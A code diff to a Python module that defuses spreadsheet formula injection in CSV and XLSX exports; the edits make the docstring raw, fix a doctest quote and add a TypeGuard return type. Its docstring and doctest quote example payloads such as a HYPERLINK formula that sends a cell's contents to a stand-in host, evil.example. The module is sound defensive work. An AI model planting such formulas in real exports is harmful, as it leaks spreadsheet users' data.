@@ -1,4 +1,4 @@
-"""Spreadsheet formula injection: user text in a CSV or XLSX export is written as text.
+r"""Spreadsheet formula injection: user text in a CSV or XLSX export is written as text.
 
 OWASP's rule: a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
 return may be run as a formula by Excel or LibreOffice (``=HYPERLINK("http://evil.example/?x="&A1)``).
@@ -9,7 +9,7 @@ is only a number (``-12``, ``-1,5``, ``+32 %``): it cannot call anything.
 Examples
 --------
 >>> neutralise('=HYPERLINK("http://evil.example","klik")')
-'\\'=HYPERLINK("http://evil.example","klik")'
+'\'=HYPERLINK("http://evil.example","klik")'
 >>> neutralise("-1,5"), neutralise(-3), neutralise("Kortrijk")
 ('-1,5', -3, 'Kortrijk')
 """
@@ -17,6 +17,7 @@ Examples
 from __future__ import annotations
 
 import re
+from typing import TypeGuard
 
 import pandas as pd
 
@@ -24,7 +25,7 @@ FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 _PLAIN_NUMBER = re.compile(r"[+-]?\d[\d.,\u00a0\u202f ]*(?:\s?%)?")
 
 
-def is_dangerous(value: object) -> bool:
+def is_dangerous(value: object) -> TypeGuard[str]:
     """Whether a spreadsheet could take this cell for a formula."""
     return (isinstance(value, str) and value.startswith(FORMULA_START)
             and _PLAIN_NUMBER.fullmatch(value) is None)
